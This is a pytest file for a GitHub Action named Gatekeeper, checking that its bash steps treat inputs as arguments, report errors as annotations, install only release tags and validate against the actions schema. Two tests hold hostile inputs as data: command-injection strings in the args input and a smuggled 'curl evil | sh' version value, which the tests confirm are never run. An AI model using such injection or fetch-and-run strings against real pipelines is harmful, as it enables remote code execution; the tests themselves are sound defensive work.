"""The action's shell steps, run by bash with stand-ins for Python and Gatekeeper
(issue 9, item 15): inputs reach the command as arguments and never as code; a run
without a decision says why as an annotation; `version` installs a released tag; and
action.yml validates against GitHub's action schema."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[1]
ACTION = ROOT / "action.yml"

RECORDER = """#!/bin/sh
# Records its arguments, one per line, then behaves as STUB_EXIT and STUB_STDERR say.
for a in "$@"; do printf '%s\\n' "$a"; done > "$RUNNER_TEMP/called-$(basename "$0")"
[ -n "$STUB_STDERR" ] && printf '%s\\n' "$STUB_STDERR" >&2
exit "${STUB_EXIT:-0}"
"""


def step(name: str) -> dict:
    steps = yaml.safe_load(ACTION.read_text())["runs"]["steps"]
    return next(s for s in steps if s.get("name") == name)


def run_step(name: str, tmp: Path, **env: str) -> subprocess.CompletedProcess[str]:
    script = tmp / "step.sh"
    script.write_text(step(name)["run"])
    full = {"PATH": os.environ["PATH"], "RUNNER_TEMP": str(tmp), **env}
    # The runner's own invocation of a `shell: bash` step.
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
        env=full, capture_output=True, text=True, timeout=60, cwd=tmp,
    )


@pytest.fixture
def venv(tmp_path: Path) -> Path:
    """$RUNNER_TEMP/gatekeeper-venv/bin with a real python and a recording gatekeeper."""
    bin_dir = tmp_path / "gatekeeper-venv" / "bin"
    bin_dir.mkdir(parents=True)
    (bin_dir / "python").symlink_to(sys.executable)
    (bin_dir / "gatekeeper").write_text(RECORDER)
    (bin_dir / "gatekeeper").chmod(0o755)
    return bin_dir


def called(tmp: Path, name: str) -> list[str]:
    return (tmp / f"called-{name}").read_text().splitlines()


GATE_INPUTS = {
    "GK_POLICY": "gatekeeper.yml",
    "GK_ENVIRONMENT": "",
    "GK_BASE": "",
    "GK_COMMENT": "true",
    "GK_STATUS": "false",
    "GK_STRICT": "false",
    "GK_POLICY_SOURCE": "",
    "GK_ARGS": "",
}


def test_args_are_split_like_a_shell_and_never_run(venv: Path, tmp_path: Path) -> None:
    hostile = '--now "2026-12-24T10:00:00Z" --branch $(touch pwned) `touch pwned2` ;touch pwned3'
    result = run_step(
        "Gate", tmp_path, **{**GATE_INPUTS, "GK_ARGS": hostile, "GK_POLICY_SOURCE": "worktree"}
    )
    assert result.returncode == 0, result.stderr
    args = called(tmp_path, "gatekeeper")
    assert args == [
        "check", "--policy", "gatekeeper.yml", "--output",
        f"json={tmp_path}/gatekeeper-report.json", "--comment",
        "--policy-source", "worktree",
        "--now", "2026-12-24T10:00:00Z", "--branch", "$(touch", "pwned)", "`touch", "pwned2`",
        ";touch", "pwned3",
    ]
    assert not list(tmp_path.glob("pwned*"))


def test_unbalanced_quotes_in_args_stop_the_step(venv: Path, tmp_path: Path) -> None:
    result = run_step("Gate", tmp_path, **{**GATE_INPUTS, "GK_ARGS": '--branch "main'})
    assert result.returncode != 0
    assert "::error title=Gatekeeper::the args input cannot be split" in result.stderr
    assert not (tmp_path / "called-gatekeeper").exists()


def test_no_decision_becomes_an_error_annotation(venv: Path, tmp_path: Path) -> None:
    message = "gatekeeper: error: gatekeeper.yml does not exist on the base commit 1234 (100%)"
    result = run_step(
        "Gate", tmp_path, **GATE_INPUTS, STUB_EXIT="2", STUB_STDERR=message
    )
    assert result.returncode == 2
    assert message in result.stderr  # the log keeps the original line
    assert result.stdout.splitlines()[-1] == (
        "::error title=Gatekeeper made no decision::gatekeeper.yml does not exist on the base "
        "commit 1234 (100%25)"
    )


def test_a_block_keeps_its_exit_code_without_an_annotation(venv: Path, tmp_path: Path) -> None:
    result = run_step("Gate", tmp_path, **GATE_INPUTS, STUB_EXIT="1")
    assert result.returncode == 1 and "::error" not in result.stdout


def python_stub(tmp: Path) -> Path:
    """A stand-in for setup-python's interpreter: `-m venv DIR` makes DIR/bin/python, which
    records the pip command."""
    stub = tmp / "python3"
    stub.write_text(
        "#!/bin/sh\nmkdir -p \"$3/bin\"\n"
        f"cat > \"$3/bin/python\" <<'EOF'\n{RECORDER}EOF\nchmod +x \"$3/bin/python\"\n"
    )
    stub.chmod(0o755)
    return stub


@pytest.mark.parametrize(
    ("version", "source"),
    [
        ("", "/actions/gatekeeper"),
        ("0.1.0", "gatekeeper-release @ git+https://github.com/acme/gatekeeper@v0.1.0"),
        ("v0.2.0rc1", "gatekeeper-release @ git+https://github.com/acme/gatekeeper@v0.2.0rc1"),
    ],
)
def test_version_installs_a_released_tag(tmp_path: Path, version: str, source: str) -> None:
    result = run_step(
        "Install Gatekeeper",
        tmp_path,
        PYTHON=str(python_stub(tmp_path)),
        GK_VERSION=version,
        GK_ACTION_REPOSITORY="acme/gatekeeper",
        GITHUB_ACTION_PATH="/actions/gatekeeper",
    )
    assert result.returncode == 0, result.stderr
    assert called(tmp_path, "python")[-1] == source


def test_a_version_that_is_no_tag_is_refused(tmp_path: Path) -> None:
    result = run_step(
        "Install Gatekeeper",
        tmp_path,
        PYTHON=str(python_stub(tmp_path)),
        GK_VERSION="main; curl evil | sh",
        GK_ACTION_REPOSITORY="acme/gatekeeper",
    )
    assert result.returncode == 2
    assert "the version input is not a release tag" in result.stdout
    assert not (tmp_path / "called-python").exists()


def test_the_report_is_uploaded_only_when_asked() -> None:
    upload = step("Upload the report")
    assert upload["uses"] == "actions/upload-artifact@v4"
    assert upload["if"] == "always() && inputs.upload-report == 'true'"
    assert upload["with"]["path"] == "${{ runner.temp }}/gatekeeper-report.json"


def check_jsonschema(schema: str, *files: Path) -> subprocess.CompletedProcess[str]:
    """check-jsonschema with one of its vendored schemas: offline, as GitHub's own editors
    check these files."""
    exe = Path(sys.executable).with_name("check-jsonschema")
    return subprocess.run(
        [str(exe), "--builtin-schema", f"vendor.{schema}", *map(str, files)],
        capture_output=True, text=True, timeout=120,
    )


def test_action_yml_validates_against_the_github_actions_schema() -> None:
    result = check_jsonschema("github-actions", ACTION)
    assert result.returncode == 0, result.stdout + result.stderr
